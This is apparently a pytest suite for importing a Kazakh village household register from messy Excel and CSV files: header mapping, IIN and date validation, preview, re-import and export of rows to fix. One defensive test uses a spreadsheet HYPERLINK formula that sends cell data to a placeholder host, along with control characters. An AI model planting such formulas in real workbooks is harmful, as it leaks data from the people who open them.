"""Importing the household book from messy spreadsheets: preview, report, import, re-import."""

from __future__ import annotations

import csv
import uuid
from dataclasses import replace
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select

from db.engine import Database
from db.models import ChangeRecord, Household
from desktop.core.actor import Actor
from desktop.core.iin import make_iin
from desktop.core.spreadsheet import read_table
from desktop.services import household_import as imp
from desktop.services import household_search, household_writer, households, office
from desktop.services.household_values import HouseholdData, MemberData

TODAY = date(2026, 11, 25)
HEAD_IIN = make_iin(date(1975, 3, 14), "male", 21)
WIFE_IIN = make_iin(date(1978, 8, 2), "female", 35)
SON_IIN = make_iin(date(2003, 5, 14), "male", 7)  # starts with "03": Excel drops the zero
TAKEN_IIN = make_iin(date(1990, 1, 9), "male", 44)
HEADERS = [
    "Дербес шот",
    "Елді мекен",
    "Көше",
    "Үй",
    "Тегі",
    "Аты",
    "Әкесінің аты",
    "ЖСН",
    "Туған күні",
    "Жынысы",
    "Туыстық қатынасы",
    "Сиырлар",
    "Қойлар",
    "Санақ күні",
]


def bad_check_digit(iin: str) -> str:
    return iin[:11] + str((int(iin[11]) + 1) % 10)


def rows() -> list[list[object]]:
    """Data rows as a clerk's workbook has them, with the file's row numbers in comments."""
    return [
        # row 5: Latin A/e/o in a Cyrillic surname, IIN as a number, counts as text and float
        [
            1.0,
            "Ақсу",
            "Абай",
            12,
            "Aхмeтoв",
            "Серік",
            "Болатұлы",
            int(HEAD_IIN),
            None,
            "ер",
            "басшы",
            "3",
            10.0,
            "01.01.2026",
        ],
        # row 6
        [1, "Ақсу", "Абай", 12, "Ахметова", "Айгүл", "", WIFE_IIN, None, "әйел", "жұбайы"],
        # row 7: an IIN that lost its leading zero; birth date as a real date cell
        [
            1,
            None,
            None,
            None,
            "Ахметов",
            "Ерлан",
            "",
            int(SON_IIN),
            datetime(2003, 5, 14),
            None,
            "ұлы",
        ],
        None,  # row 8: blank
        # rows 9-10: the head's IIN has a wrong check digit -> the whole household waits
        [
            2,
            "Ақсу",
            "Жібек жолы",
            "3",
            "Петров",
            "Иван",
            "",
            bad_check_digit(HEAD_IIN[:6] + "3" + "0101" + "0"),
        ],
        [2, "Ақсу", "Жібек жолы", "3", "Петрова", "Анна", "", "", "12.12.1980", "әйел", "жұбайы"],
        # rows 11-12: a person already registered in household 99
        [3, "Ақсу", "Бірлік", "7", "Сейітов", "Нұрлан", "", TAKEN_IIN, None, None, "ұлы"],
        [3, "Ақсу", "Бірлік", "7", "Сейітова", "Гүлмира", "", "", "1965-04-30", "әйел", "басшы"],
        # rows 13-14: no IINs; an impossible birth date
        [4, "Ақсу", "", "", "Оспанова", "Дана", "", "", "01.07.1980", "әйел", ""],
        [4, "Ақсу", "", "", "Оспанов", "Ержан", "", "", "31.02.2010", "ер", "ұлы"],
    ]


def write_xlsx(path: Path, data: list[list[object] | None] | None = None) -> Path:
    book = Workbook()
    sheet = book.active
    sheet["A1"] = "Шаруашылық кітабы — Ақсу ауылы"
    sheet.merge_cells("A1:N1")
    sheet.append([])
    sheet.append(HEADERS)
    sheet.append([])
    for row in rows() if data is None else data:
        sheet.append(row or [])
    book.save(path)
    return path


@pytest.fixture
def book_db(configured_db: Database, clerk: Actor) -> Database:
    household_writer.create_household(
        configured_db,
        HouseholdData("99", "Ақсу", date(2020, 1, 1)),
        MemberData("Сейітов", "Нұрлан", "head", date(2020, 1, 1), iin=TAKEN_IIN),
        clerk,
        TODAY,
    )
    return configured_db


def by(db: Database) -> Actor:
    actor = office.current_actor(db)
    assert actor is not None
    return actor


def history_lines(db: Database) -> int:
    with db.read() as session:
        return session.scalar(select(func.count()).select_from(ChangeRecord)) or 0


def household_id(db: Database, account: str) -> uuid.UUID | None:
    with db.read() as session:
        return session.scalar(select(Household.id).where(Household.account_number == account))


def plan_for(db: Database, path: Path) -> imp.ImportPlan:
    table = read_table(path)
    return imp.preview(db, table, imp.mapping_for(db, table), TODAY)


def test_mapping_is_guessed_from_kazakh_headers(book_db: Database) -> None:
    livestock = households.terms(book_db).livestock
    mapping = imp.guess_mapping(HEADERS, livestock)
    assert mapping == {
        "account_number": "Дербес шот",
        "locality": "Елді мекен",
        "street": "Көше",
        "house": "Үй",
        "surname": "Тегі",
        "name": "Аты",
        "patronymic": "Әкесінің аты",
        "iin": "ЖСН",
        "birth_date": "Туған күні",
        "sex": "Жынысы",
        "relation": "Туыстық қатынасы",
        "cattle_cows": "Сиырлар",
        "sheep": "Қойлар",
        "livestock_as_of": "Санақ күні",
    }


def test_mapping_is_guessed_from_russian_and_english_headers(book_db: Database) -> None:
    livestock = households.terms(book_db).livestock
    mapping = imp.guess_mapping(
        ["№", "Лицевой счёт", "ФИО", "ИИН", "Дата рождения", "Пол", "Кол-во коров", "Phone"],
        livestock,
    )
    assert mapping == {
        "account_number": "Лицевой счёт",
        "full_name": "ФИО",
        "iin": "ИИН",
        "birth_date": "Дата рождения",
        "sex": "Пол",
        "cattle_cows": "Кол-во коров",
        "phone": "Phone",
    }


def test_mapping_is_remembered_for_the_same_headers_in_any_order(book_db: Database) -> None:
    signature = imp.mapping_signature(["ИИН", "Лицевой счёт", "Имя"])
    assert imp.remembered_mapping(book_db, signature) is None
    mapping = {"iin": "ИИН", "account_number": "Лицевой счёт"}
    imp.remember_mapping(book_db, signature, mapping, by(book_db))
    again = imp.mapping_signature(["Имя", "иин", "ЛИЦЕВОЙ СЧЁТ"])
    assert again == signature
    assert imp.remembered_mapping(book_db, again) == {
        "iin": "ИИН",
        "account_number": "Лицевой счёт",
    }


def test_preview_reports_every_problem_and_writes_nothing(
    book_db: Database, tmp_path: Path
) -> None:
    before = history_lines(book_db)
    plan = plan_for(book_db, write_xlsx(tmp_path / "book.xlsx"))

    errors = {(p.row, p.column, p.code) for p in plan.errors}
    assert errors == {
        (9, "ЖСН", "iin_check_digit"),
        (10, "", "household_invalid"),
        (11, "ЖСН", "iin_in_other_household"),
        (14, "Туған күні", "invalid_date"),
    }
    taken = next(p for p in plan.errors if p.code == "iin_in_other_household")
    assert taken.params == {"account": "99"}
    warnings = {(p.row, p.column, p.code) for p in plan.problems if p.severity == "warning"}
    assert (5, "Тегі", "lookalikes_fixed") in warnings
    assert (7, "ЖСН", "iin_zero_restored") in warnings
    assert plan.invalid_rows == {9, 10, 11, 14}
    assert plan.row_count == 9 and plan.valid_row_count == 5
    assert plan.outcomes == {"1": "created", "2": "failed", "3": "created", "4": "created"}
    assert history_lines(book_db) == before
    assert household_id(book_db, "1") is None


def test_import_then_reimport_changes_nothing(book_db: Database, tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "book.xlsx")
    result = imp.run(book_db, plan_for(book_db, path), by(book_db))

    assert (result.households_created, result.households_updated) == (3, 0)
    assert result.members_added == 3 + 1 + 1
    assert result.invalid_rows == 4 and result.problems == ()

    card = households.card(book_db, household_id(book_db, "1"), TODAY)
    assert card.head is not None and card.head.surname == "Ахметов"  # Cyrillic now
    assert card.head.sex == "male" and card.head.birth_date == date(1975, 3, 14)
    assert {m.iin for m in card.members} == {HEAD_IIN, WIFE_IIN, SON_IIN}
    assert card.data.street == "Абай" and card.data.house == "12"
    assert card.livestock is not None
    assert card.livestock.as_of == date(2026, 1, 1)
    assert card.livestock.counts == {"cattle_cows": 3, "sheep": 10}
    household_4 = households.card(book_db, household_id(book_db, "4"), TODAY)
    assert [(m.surname, m.relation) for m in household_4.members] == [("Оспанова", "head")]
    hits = household_search.search(book_db, "ахметов ерлан")
    assert [h.account_number for h in hits] == ["1"]

    lines = history_lines(book_db)
    again = imp.run(book_db, plan_for(book_db, path), by(book_db))
    assert (again.households_created, again.households_updated) == (0, 0)
    assert again.households_unchanged == 3
    assert (again.members_added, again.members_updated) == (0, 0)
    assert history_lines(book_db) == lines


def test_a_changed_value_is_updated_with_one_history_line(
    book_db: Database, tmp_path: Path
) -> None:
    imp.run(book_db, plan_for(book_db, write_xlsx(tmp_path / "book.xlsx")), by(book_db))
    lines = history_lines(book_db)
    data: list[list[object] | None] = list(rows())
    first = list(data[0] or [])
    first[3] = "12А"  # house number corrected
    first[11] = 4  # one more cow
    data[0] = first
    plan = plan_for(book_db, write_xlsx(tmp_path / "fixed.xlsx", data))
    assert plan.outcomes["1"] == "updated"
    result = imp.run(book_db, plan, by(book_db))
    assert (result.households_updated, result.households_unchanged) == (1, 2)
    assert history_lines(book_db) == lines + 2  # house, livestock counts
    card = households.card(book_db, household_id(book_db, "1"), TODAY)
    assert card.data.house == "12А"
    assert card.livestock is not None and card.livestock.counts["cattle_cows"] == 4


def test_fixed_invalid_rows_can_be_imported_later(book_db: Database, tmp_path: Path) -> None:
    plan = plan_for(book_db, write_xlsx(tmp_path / "book.xlsx"))
    imp.run(book_db, plan, by(book_db))
    saved = tmp_path / "to_fix.xlsx"
    assert imp.save_invalid_rows(plan, saved, lambda p: p.code.upper(), "Қате") == 4

    sheet = load_workbook(saved).active
    values = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert values[0] == [*HEADERS, "Қате"]
    assert [r[4] for r in values[1:]] == ["Петров", "Петрова", "Сейітов", "Оспанов"]
    assert values[1][-1] == "ЖСН: IIN_CHECK_DIGIT"
    assert values[4][-1] == "Туған күні: INVALID_DATE"

    # The clerk fixes the date of birth and imports the file again: one member is added.
    sheet.cell(5, 9).value = "28.02.2010"
    sheet.cell(5, 14).value = None
    load_fixed = tmp_path / "fixed.xlsx"
    sheet.parent.save(load_fixed)
    plan = plan_for(book_db, load_fixed)
    assert {p.row for p in plan.errors} == {2, 3, 4}
    result = imp.run(book_db, plan, by(book_db))
    assert result.members_added == 1
    household_4 = households.card(book_db, household_id(book_db, "4"), TODAY)
    assert [(m.name, m.relation) for m in household_4.members] == [
        ("Дана", "head"),
        ("Ержан", "son"),
    ]


def test_csv_in_windows_1251_with_a_full_name_column(book_db: Database, tmp_path: Path) -> None:
    path = tmp_path / "kniga.csv"
    with path.open("w", encoding="cp1251", newline="") as handle:
        writer = csv.writer(handle, delimiter=";")
        writer.writerow(["Похозяйственная книга, с. Аксу"])
        writer.writerow([])
        writer.writerow(["Лицевой счёт", "Населённый пункт", "ФИО", "ИИН", "Пол", "Отношение"])
        writer.writerow(["10", "Аксу", "Иванов Пётр Сергеевич", HEAD_IIN, "м", "глава"])
        writer.writerow(["", "", "", "", "", ""])
        writer.writerow(["10", "Аксу", "Иванова Мария", "", "ж", "жена"])
        writer.writerow(["11", "Аксу", "Смирнов Олег", "", "", "глава"])
    table = read_table(path)
    mapping = imp.mapping_for(book_db, table)
    assert mapping["full_name"] == "ФИО" and mapping["relation"] == "Отношение"
    plan = imp.preview(book_db, table, mapping, TODAY)
    assert plan.errors == [] and plan.locality == "Аксу"
    warnings = [(p.row, p.column, p.code) for p in plan.problems if p.severity == "warning"]
    assert warnings == [(7, "Пол", "sex_from_name")]  # "Смирнов": a man's surname
    result = imp.run(book_db, plan, by(book_db))
    assert (result.households_created, result.members_added) == (2, 3)
    card = households.card(book_db, household_id(book_db, "10"), TODAY)
    assert [(m.surname, m.name, m.patronymic, m.relation) for m in card.members] == [
        ("Иванов", "Пётр", "Сергеевич", "head"),
        ("Иванова", "Мария", "", "spouse"),
    ]


def test_same_iin_twice_in_a_file_and_unknown_words(book_db: Database) -> None:
    table = imp.Table(
        ("Л/с", "Фамилия", "Имя", "ИИН", "Пол", "Отношение", "Овцы", "Село"),
        1,
        (
            imp.SheetRow(2, ("20", "Ким", "Ли", WIFE_IIN, "", "глава", "5", "Аксу")),
            imp.SheetRow(3, ("20", "Ким", "Ан", WIFE_IIN, "", "дочь", "", "")),
            imp.SheetRow(4, ("21", "Пак", "Юн", "", "x", "глава", "", "Аксу")),
            imp.SheetRow(5, ("22", "Цой", "Ен", HEAD_IIN, "", "сосед", "много", "Аксу")),
            imp.SheetRow(6, ("23", "Ли", "Юрий", HEAD_IIN, "", "", "", "")),
        ),
    )
    mapping = imp.guess_mapping(table.headers, households.terms(book_db).livestock)
    plan = imp.preview(book_db, table, mapping, TODAY)
    assert [(p.row, p.column, p.code) for p in plan.errors] == [
        (3, "ИИН", "duplicate_iin"),
        (4, "Пол", "unknown_sex"),
        (5, "Отношение", "unknown_relation"),
        (5, "Овцы", "not_a_number"),
        (6, "Село", "required"),
    ]
    assert plan.outcomes == {"20": "created", "23": "failed"}
    del mapping["locality"]
    plan = imp.preview(book_db, table, mapping, TODAY)
    assert imp.Problem(2, "", "required", {}, "error", "locality") in plan.errors


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("14.03.1975", date(1975, 3, 14)),
        ("4.3.1975", date(1975, 3, 4)),
        ("1975-03-14", date(1975, 3, 14)),
        ("1975-03-14 00:00:00", date(1975, 3, 14)),
        ("27467", date(1975, 3, 14)),  # Excel serial
        ("14.03.75", None),
        ("31.02.2010", None),
    ],
)
def test_parse_date(text: str, expected: date | None) -> None:
    assert imp.parse_date(text) == expected


def test_rows_to_fix_are_text_and_survive_characters_a_workbook_cannot_hold(
    book_db: Database, tmp_path: Path
) -> None:
    table = read_table(write_xlsx(tmp_path / "book.xlsx"))
    link = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
    cells = {
        0: {4: link},  # the head's surname: a formula as text
        1: {5: "Ай\x00гүл\x1b[31m"},  # NUL and an escape sequence in a name
        2: {6: "Ерлан\ud800ұлы"},  # a lone surrogate (what a broken .xls can hold)
    }
    changed = []
    for index, row in enumerate(table.rows):
        values = list(row.cells)
        for column, value in cells.get(index, {}).items():
            values[column] = value
        if index in cells:
            values[7] = "123"  # an IIN too short: the row is one to fix
        changed.append(replace(row, cells=tuple(values)))
    table = replace(table, rows=tuple(changed))
    plan = imp.preview(book_db, table, imp.mapping_for(book_db, table), TODAY)
    saved = tmp_path / "to_fix.xlsx"

    assert imp.save_invalid_rows(plan, saved) >= 3

    sheet = load_workbook(saved).active
    found = {}
    for row in sheet.iter_rows(min_row=2):
        assert all(cell.data_type == "s" or cell.value is None for cell in row)
        found[row[4].value] = row
    assert found[link][4].data_type == "s"
    assert found[link][4].quotePrefix
    names = {row[5].value for row in found.values()}
    assert "Айгүл[31m" in names
    assert "Ерланұлы" in {row[6].value for row in found.values()}
